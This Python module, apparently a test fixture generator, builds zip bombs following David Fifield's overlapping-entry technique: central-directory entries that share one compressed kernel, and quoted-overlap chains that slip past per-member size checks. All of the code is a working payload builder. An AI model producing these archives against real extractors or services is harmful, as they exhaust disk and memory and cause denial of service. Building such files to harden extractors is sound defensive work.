"""Hostile zips built byte by byte: entries that share their compressed data (zip bombs that pass every
per-member check).  After David Fifield, "A better zip bomb" (WOOT 2019)."""

from __future__ import annotations

import struct
import zlib

_LFH = struct.Struct("<4sHHHHHIIIHH")
_CDH = struct.Struct("<4sHHHHHHIIIHHHHHII")
_EOCD = struct.Struct("<4sHHHHIIH")


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _local(name: bytes, crc: int, csize: int, usize: int) -> bytes:
    return _LFH.pack(b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, csize, usize, len(name), 0) + name


def _central(entries: list[tuple[bytes, int, int, int, int]], cd_offset: int) -> bytes:
    cd = b"".join(
        _CDH.pack(b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset) + name
        for name, crc, csize, usize, offset in entries
    )
    return cd + _EOCD.pack(b"PK\x05\x06", 0, 0, len(entries), len(entries), len(cd), cd_offset, 0)


def shared_kernel_zip(name: str, data: bytes, copies: int) -> bytes:
    """One local entry; ``copies`` central-directory entries all point at it (full overlap)."""
    raw = name.encode()
    kernel = _deflate(data)
    crc = zlib.crc32(data)
    body = _local(raw, crc, len(kernel), len(data)) + kernel
    return body + _central([(raw, crc, len(kernel), len(data), 0)] * copies, len(body))


def quoted_overlap_zip(names: list[str], data: bytes) -> bytes:
    """Fifield's quoted-overlap bomb: member i's deflate stream quotes member i+1's local header in a
    stored block, then runs on into member i+1's data, so every member unpacks to the local headers
    after it plus ``data``, while the archive holds ``data`` compressed once."""
    kernel = _deflate(data)
    # Built back to front: each member's header holds its CRC, which covers the headers after it.
    headers: list[bytes] = []
    entries = []
    tail_plain = data
    tail_compressed = kernel
    for i in range(len(names) - 1, -1, -1):
        raw = names[i].encode()
        crc = zlib.crc32(tail_plain)
        header = _local(raw, crc, len(tail_compressed), len(tail_plain))
        headers.insert(0, header)
        entries.insert(0, [raw, crc, len(tail_compressed), len(tail_plain)])
        if i > 0:
            quote = b"\x00" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF)
            tail_plain = header + tail_plain
            tail_compressed = quote + header + tail_compressed
    body = b""
    offsets = []
    for i, header in enumerate(headers):
        offsets.append(len(body))
        body += header
        if i + 1 < len(headers):
            body += b"\x00" + struct.pack("<HH", len(headers[i + 1]), len(headers[i + 1]) ^ 0xFFFF)
    # The layout: [LFH0][q0][LFH1][q1]...[LFHn-1][kernel]; q_i is a stored block holding LFH_{i+1}.
    body += kernel
    central = [(e[0], e[1], e[2], e[3], off) for e, off in zip(entries, offsets, strict=True)]
    return body + _central(central, len(body))
